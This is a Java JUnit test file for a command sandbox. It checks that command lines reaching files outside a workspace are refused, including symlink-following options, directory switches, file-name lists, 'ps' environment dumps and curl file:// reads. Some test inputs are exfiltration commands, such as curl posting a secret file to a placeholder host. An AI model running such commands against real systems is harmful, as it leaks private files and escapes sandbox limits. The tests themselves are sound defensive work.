package dev.mero.core.command;

import static dev.mero.core.command.Attacks.refused;
import static org.assertj.core.api.Assertions.assertThat;

import dev.mero.core.Permission;
import dev.mero.core.SecurityContext;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Programs that reach files the command line does not name, run for real against real symbolic links: options
 * that follow the links inside a directory, options that change the directory later arguments are read in, link
 * targets that are read from the link's own directory, lists of file names read from a file, and {@code ps}
 * printing environments. Each is refused with its reason, leaves the file system as it was and names no host
 * path.
 */
class LinkAndListAttackTest {

    @TempDir
    Path tmp;
    Workspace w;
    SecurityContext context;

    @BeforeEach
    void setUp() throws IOException {
        w = new Workspace(tmp);
        Path tree = Files.createDirectories(w.ws.resolve("tree"));
        Files.writeString(tree.resolve("in.txt"), "inside");
        Files.createSymbolicLink(tree.resolve("out"), w.outside.resolve("secret.txt"));
        Path tree2 = Files.createDirectories(w.ws.resolve("tree2"));
        Files.writeString(tree2.resolve("in.txt"), "inside");
        Files.createDirectories(w.ws.resolve("a/b"));
        Files.writeString(w.outside.resolve("secret.txt"), "TOP-SECRET-CONTENT");
        Files.writeString(w.ws.resolve("list0"), w.outside.resolve("secret.txt") + "\0");
        Files.writeString(w.outside.resolve("Makefile"), "all:\n\tcat secret.txt\n");
        w.stub("rsync");
        context = w.context().commandSearchPath(w.searchPath())
                .allowCommand("cp").allowCommand("ls").allowCommand("du").allowCommand("wc").allowCommand("diff")
                .allowCommand("tar").allowCommand("find").allowCommand("chown").allowCommand("ln")
                .allowCommand("sort").allowCommand("sha256sum").allowCommand("file").allowCommand("git")
                .allowCommand("rsync").allowCommand("make").allowCommand("ps").allowCommand("cat").allowCommand("zip")
                .allowCommand("curl").build();
    }

    @ParameterizedTest
    @ValueSource(strings = {"cp -rL tree copy", "cp -r -L tree copy", "cp --dereference -r tree copy",
        "cp -a --deref tree copy", "cp -RL tree copy", "ls -LR tree", "ls -L tree", "ls --dereference tree",
        "ls -lLa tree", "du -L tree", "du --dereference tree", "du -aL tree", "tar -chf - tree",
        "tar --dereference -cf - tree", "tar chf - tree", "find -L tree", "find tree -follow", "chown -R -L 0 tree",
        "rsync -rL tree copy", "rsync --copy-links -r tree copy", "rsync -rK tree copy", "rsync --copy-unsafe tree x",
        "zip -r out.zip tree", "zip -qr9 out.zip tree"})
    void optionsThatFollowTheLinksInsideADirectoryAreRefused(String line) {
        refused(w, context, line, "/ws", "follow");
    }

    @ParameterizedTest
    @ValueSource(strings = {"diff -r tree tree2", "diff tree tree2", "diff --recursive tree tree2",
        "diff notes.txt tree", "diff -q tree/ tree2", "diff --from-file=tree tree2"})
    void diffIsRefusedADirectoryUnlessItComparesLinksAsLinks(String line) {
        String text = refused(w, context, line, "/ws", "diff follows the symbolic links it finds in a directory");

        assertThat(text).contains("Add --no-dereference");
    }

    @Test
    void diffWithNoDereferenceComparesTheLinkNotWhatItPointsTo() {
        CommandResult result = context.runCommand("diff -r --no-dereference tree tree2", "/ws");

        assertThat(result.stdout()).contains("Only in tree: out").doesNotContain("secret");
    }

    @ParameterizedTest
    @ValueSource(strings = {"tar -C ../.. -cf - ../outside/secret.txt", "tar --directory=../.. -cf - ../outside/secret.txt",
        "tar --dir ../.. -cf - ../outside/secret.txt", "tar -cf - -C ../.. ../outside/secret.txt",
        "tar -cvC ../.. -f - ../outside/secret.txt", "tar cCf ../.. - ../outside/secret.txt",
        "git -C ../.. diff --no-index ../outside/secret.txt notes.txt",
        "make -C ../.. -f ../outside/Makefile", "make --directory=../.. -f ../outside/Makefile"})
    void aRelativePathIsJudgedFromTheDirectoryTheProgramChangesTo(String line) {
        // from /ws/a/b, '../outside/secret.txt' is /ws/a/outside/secret.txt; from '-C ../..' (that is /ws) it is
        // the secret outside every entry
        String text = refused(w, context, line, "/ws/a/b", "names the path '../outside/");

        assertThat(text).contains("it leads outside every mounted entry of context 'worker_1'");
    }

    @Test
    void aDirectoryOptionInsideTheMountsStillWorks() {
        CommandResult result = context.runCommand("tar -C ../.. -cf - notes.txt", "/ws/a/b");

        assertThat(result.succeeded()).isTrue();
        assertThat(result.stdout()).contains("notes.txt");
    }

    @ParameterizedTest
    @ValueSource(strings = {"ln -s ../outside/secret.txt ../../planted", "ln -s -t ../.. ../outside/secret.txt",
        "ln --symbolic ../outside ../..", "ln -sf ../outside/secret.txt ../../notes.txt",
        "ln -s --target-directory=../.. ../outside/secret.txt", "ln -sr ../outside/secret.txt ../../planted",
        "ln -s --t ../.. ../outside/secret.txt", "ln --ta=../.. -s ../outside/secret.txt"})
    void aLinkTargetIsJudgedFromTheDirectoryOfTheLink(String line) {
        // '../outside/...' from /ws/a/b stays inside /ws, but a link in /ws reads it from /ws: outside
        refused(w, context, line, "/ws/a/b", "it leads outside every mounted entry");

        assertThat(w.ws.resolve("planted")).doesNotExist();
        assertThat(w.ws.resolve("outside")).doesNotExist();
    }

    @Test
    void aLinkWhoseTargetStaysInsideIsStillMade() throws IOException {
        CommandResult result = context.runCommand("ln -s notes.txt ../../shortcut", "/ws/a/b");

        assertThat(result.succeeded()).isTrue();
        assertThat(Files.readString(w.ws.resolve("shortcut"))).isEqualTo("notes");
    }

    @ParameterizedTest
    @ValueSource(strings = {"wc --files0-from=list0", "wc --files0-from list0", "wc --files0=list0",
        "du --files0-from=list0", "du --files0-f=list0", "sort --files0-from=list0", "tar -cf - -T list0",
        "tar -cf - --files-from=list0", "find -files0-from list0", "sha256sum -c list0", "sha256sum --check list0",
        "file -f list0", "git add --pathspec-from-file=list0", "git rm --pathspec-from-file list0",
        "rsync -r --files-from=list0 . copy"})
    void optionsThatReadFileNamesFromAFileAreRefused(String line) {
        refused(w, context, line, "/ws", "from a file");
    }

    @ParameterizedTest
    @ValueSource(strings = {"ps e", "ps eww", "ps axe", "ps aux e", "ps -p PID e", "ps ep PID", "ps -o pid,args ewww",
        "ps ewwp PID", "ps --pid PID e"})
    void psMayNotPrintTheEnvironmentOfAProcess(String template) {
        String line = template.replace("PID", String.valueOf(ProcessHandle.current().pid()));

        refused(w, context, line, "/ws", "prints the environment of the processes shown");
    }

    @Test
    void psWithoutTheEnvironmentStillWorks() {
        // without the sandbox, ps sees the host's processes, this JVM included
        SecurityContext optedOut = w.context().commandSearchPath(w.searchPath()).allowCommand("ps")
                .commandSandbox(CommandSandbox.disabled()).build();
        CommandResult result = optedOut.runCommand("ps -p " + ProcessHandle.current().pid() + " -o pid,etime", "/ws");

        assertThat(result.succeeded()).isTrue();
        assertThat(result.stdout()).contains(String.valueOf(ProcessHandle.current().pid()));
        // inside the sandbox, ps runs too, and sees its own PID namespace, where it is process 1
        CommandResult sandboxed = context.runCommand("ps -p 1 -o pid,comm", "/ws");
        assertThat(sandboxed.succeeded()).isTrue();
        assertThat(sandboxed.stdout()).contains("ps");
    }

    @Test
    void aFileListOfPatternsIsAnOrdinaryPathThatNeedsRead() {
        refused(w, context, "du -X ../outside/secret.txt tree", "/ws", "names the path '../outside/secret.txt'");
        assertThat(context.runCommand("du -X list0 tree", "/ws").succeeded()).isTrue();
    }

    @Test
    void aRecursiveZipStoresLinksAsLinksWithY() throws IOException {
        CommandResult result = context.runCommand("zip -qry out.zip tree", "/ws");

        assertThat(result.succeeded()).isTrue();
        assertThat(new String(Files.readAllBytes(w.ws.resolve("out.zip")), java.nio.charset.StandardCharsets.ISO_8859_1))
                .doesNotContain("TOP-SECRET-CONTENT");
    }

    @ParameterizedTest
    @ValueSource(strings = {"curl file:///OUT/secret.txt", "curl FILE://localhost/OUT/secret.txt",
        "curl file:%2FOUT/secret.txt", "curl -o copy file:///OUT/secret.txt",
        "curl -d @/OUT/secret.txt https://example.invalid", "curl -F f=@/OUT/secret.txt https://example.invalid",
        "curl --data-binary @/OUT/secret.txt https://example.invalid"})
    void aFileUrlIsJudgedLikeThePathItNames(String template) {
        String line = template.replace("/OUT", w.outside.toString()).replace("%2FOUT",
                w.outside.toString().replace("/", "%2F"));

        refused(w, context, line, "/ws", "which it may not", java.util.List.of(w.outside.toString(),
                w.outside.toString().replace("/", "%2F")));
    }

    @Test
    void readOnlyProgramsStillNeedOnlyRead() {
        SecurityContext readOnly = w.context(Permission.READ, Permission.EXECUTE).allowCommand("ls").build();

        assertThat(readOnly.runCommand("ls -la tree", "/ws").stdout()).contains("out ->");
    }
}
